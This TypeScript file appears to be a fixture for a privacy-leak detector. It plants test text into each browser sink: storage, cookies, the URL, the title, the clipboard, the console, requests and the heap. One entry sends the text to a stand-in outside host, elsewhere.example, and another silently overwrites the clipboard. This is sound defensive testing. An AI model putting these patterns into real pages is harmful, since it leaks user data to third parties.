import type { Sink } from './sinks';

/** A leak as our own code could cause it by mistake, and the sink in which it must be found. */
export interface PlantedLeak {
  leak: string;
  sink: Sink;
  /** Runs in the browser, so it cannot use variables from outside. */
  plant: (text: string) => unknown;
}

/** At least one leak per sink. */
export const plantedLeaks: readonly PlantedLeak[] = [
  {
    leak: 'a cookie',
    sink: 'cookie',
    plant: (text) => {
      // biome-ignore lint/suspicious/noDocumentCookie: a leak is what this plants.
      document.cookie = `told=${text}`;
    },
  },
  { leak: 'localStorage', sink: 'localStorage', plant: (text) => localStorage.setItem('told', text) },
  { leak: 'sessionStorage', sink: 'sessionStorage', plant: (text) => sessionStorage.setItem('told', text) },
  {
    leak: 'a database',
    sink: 'indexedDB',
    plant: (text) => {
      const opening = indexedDB.open('visit');
      opening.onupgradeneeded = () => opening.result.createObjectStore('told', { autoIncrement: true });
      opening.onsuccess = () => {
        opening.result.transaction('told', 'readwrite').objectStore('told').add(text);
        opening.result.close();
      };
    },
  },
  {
    leak: 'a cached answer',
    sink: 'cache',
    plant: async (text) => (await caches.open('told')).put('/told', new Response(text)),
  },
  {
    leak: 'a query in the address',
    sink: 'address',
    plant: (text) => history.replaceState(history.state, '', `?told=${text}`),
  },
  {
    leak: 'an address that is gone at once',
    sink: 'address',
    plant: (text) => {
      history.replaceState(history.state, '', `#${text}`);
      history.replaceState(history.state, '', location.pathname);
    },
  },
  {
    leak: 'the title',
    sink: 'title',
    plant: (text) => {
      document.title = `Told: ${text}`;
    },
  },
  { leak: 'the state of the history', sink: 'historyState', plant: (text) => history.replaceState(text, '') },
  {
    leak: 'the name of the window',
    sink: 'windowName',
    plant: (text) => {
      window.name = text;
    },
  },
  {
    leak: 'a hidden attribute',
    sink: 'document',
    plant: (text) => {
      document.body.dataset.told = text;
    },
  },
  {
    leak: 'a description for screen readers alone',
    sink: 'accessibility',
    plant: (text) => {
      const name = `told-${Math.random().toString(36).slice(2)}`;
      customElements.define(
        name,
        class extends HTMLElement {
          readonly told = Object.assign(this.attachInternals(), { role: 'note', ariaLabel: text });
        },
      );
      document.body.append(document.createElement(name));
    },
  },
  {
    leak: 'a line on paper alone',
    sink: 'print',
    plant: (text) =>
      document.styleSheets[0]?.insertRule(
        `@media print { body::after { content: '${text}'; display: block !important; } }`,
      ),
  },
  {
    leak: 'the clipboard',
    sink: 'clipboard',
    plant: (text) => {
      // execCommand is not covered by any header; it needs a selection, which here is invisible.
      const put = (event: ClipboardEvent) => {
        event.clipboardData?.setData('text/plain', text);
        event.preventDefault();
      };
      document.addEventListener('copy', put, { once: true });
      document.execCommand('copy');
    },
  },
  { leak: 'the console', sink: 'console', plant: (text) => console.log(text) },
  {
    leak: 'a request to our own server',
    sink: 'request',
    plant: (told) => fetch('/icon.svg', { method: 'POST', body: JSON.stringify({ told }) }),
  },
  {
    leak: 'the address of a request',
    sink: 'request',
    plant: (text) => fetch(`/icon.svg?told=${text}`),
  },
  // Blocked by CSP before it is sent; the blocked URL appears in the console.
  {
    leak: 'a request to somebody else',
    sink: 'console',
    plant: (text) => fetch(`//elsewhere.example/${text}`).catch(() => 0),
  },
  {
    leak: 'an error that nobody caught',
    sink: 'console',
    plant: (text) =>
      setTimeout(() => {
        throw new Error(text);
      }),
  },
  {
    leak: 'the memory',
    sink: 'heap',
    plant: (text) => {
      const [question = '', answer = ''] = text.split('=');
      const { kept = [] } = window as { kept?: object[] };
      Object.assign(window, { kept: [...kept, { [question]: answer }] });
    },
  },
];
